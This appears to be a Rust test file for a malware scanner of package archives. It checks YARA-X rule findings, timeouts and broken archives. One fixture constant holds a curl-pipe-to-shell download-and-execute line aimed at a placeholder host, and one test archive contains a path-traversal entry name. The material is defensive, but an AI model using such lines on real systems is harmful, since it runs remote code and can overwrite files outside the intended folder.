use std::io::{Cursor, Write as _};

use super::*;

/// A tar.gz of files in one folder.
pub(super) fn archive(files: &[(&str, impl AsRef<[u8]>)]) -> Vec<u8> {
    let mut tar = Vec::new();
    for (name, content) in files {
        let content = content.as_ref();
        let mut header = [0u8; 512];
        header[..name.len()].copy_from_slice(name.as_bytes());
        header[100..108].copy_from_slice(b"0000644\0");
        header[108..124].copy_from_slice(b"0000000\x000000000\0");
        header[124..136].copy_from_slice(format!("{:011o}\0", content.len()).as_bytes());
        header[136..148].copy_from_slice(b"00000000000\0");
        header[148..156].fill(b' ');
        header[156] = b'0';
        header[257..265].copy_from_slice(b"ustar\x0000");
        let sum: u32 = header.iter().map(|&b| u32::from(b)).sum();
        header[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
        tar.extend_from_slice(&header);
        tar.extend_from_slice(content);
        tar.resize(tar.len().next_multiple_of(512), 0);
    }
    tar.resize(tar.len() + 1024, 0);
    gzip(&tar)
}

pub(super) fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gzip.write_all(bytes).unwrap();
    gzip.finish().unwrap()
}

pub(super) const HOSTILE: &str = "import os\n\nos.system('curl https://payload.invalid/x | sh')\n";

pub(super) fn report(scanner: &Scanner, bytes: &[u8]) -> Report {
    scanner.scan(Sha256::of(bytes), Cursor::new(bytes)).unwrap()
}

#[test]
fn one_finding_for_each_rule_and_file_with_its_first_line() {
    let twice = format!("{HOSTILE}{HOSTILE}");
    let bytes = archive(&[("p/a.py", twice.as_str()), ("p/b.py", HOSTILE), ("p/c.py", "import os\n")]);
    let report = report(&Scanner::builtin().unwrap(), &bytes);
    assert!(report.coverage.is_complete(), "{:?}", report.coverage);
    let places: Vec<_> =
        report.findings.iter().map(|f| (f.rule.as_str(), f.path.as_deref(), f.line)).collect();
    let rule = "python-download-execute";
    assert_eq!(places, [(rule, Some("p/a.py"), Some(3)), (rule, Some("p/b.py"), Some(3))]);
    assert!(report.engine.starts_with("airlock-scanner 0.1.0 rules "), "{}", report.engine);
}

#[test]
fn what_there_was_no_time_for_is_a_gap() {
    let scanner = Scanner { archive_time: Duration::ZERO, ..Scanner::builtin().unwrap() };
    let report = report(&scanner, &archive(&[("p/a.py", HOSTILE)]));
    assert_eq!((report.coverage.files, report.coverage.scanned_files), (1, 0));
    assert_eq!(report.coverage.skipped[0].reason, "the time for the archive ran out");
    assert!(!report.coverage.is_complete());
}

#[test]
fn an_entry_that_takes_too_long_is_a_gap() {
    let endless = "rule endless { meta: title = \"t\" description = \"d\" severity = \"low\" confidence = \"low\" \
         recommendation = \"r\" references = \"r\" condition: \
         for all i in (0..4000000000) : (uint8(i % 4) != 256 and uint8(i % 3) != 256) }";
    let source = rules::RuleSource { id: "endless".into(), file: "rule.yar".into(), text: endless.into() };
    let rules = rules::compile(&[source]).unwrap();
    let mut scanner = yara_x::Scanner::new(rules.compiled());
    let reason = scan_entry(&rules, &mut scanner, ("a", b"abcdef"), Duration::from_secs(1)).unwrap_err();
    assert_eq!(reason, "the scan did not end within 1 s");
}

#[test]
fn a_broken_archive_is_a_finding_and_no_error() {
    let bytes = archive(&[("p/a.py", HOSTILE), ("p/../../b.py", "")]);
    let report = report(&Scanner::builtin().unwrap(), &bytes);
    assert!(report.findings.iter().any(|f| f.rule.starts_with("archive-")), "{:?}", report.findings);
    assert!(!report.coverage.is_complete());
    let cut = &bytes[..bytes.len() / 2];
    let cut = Scanner::builtin().unwrap().scan(Sha256::of(cut), Cursor::new(cut)).unwrap();
    assert!(!cut.findings.is_empty() && !cut.coverage.is_complete());
}

#[test]
fn bytes_that_are_no_archive_have_no_report() {
    let scanned = Scanner::builtin().unwrap().scan(Sha256::of(b"x"), Cursor::new(b"x"));
    assert!(matches!(scanned, Err(ScanError::NotAnArchive)));
}
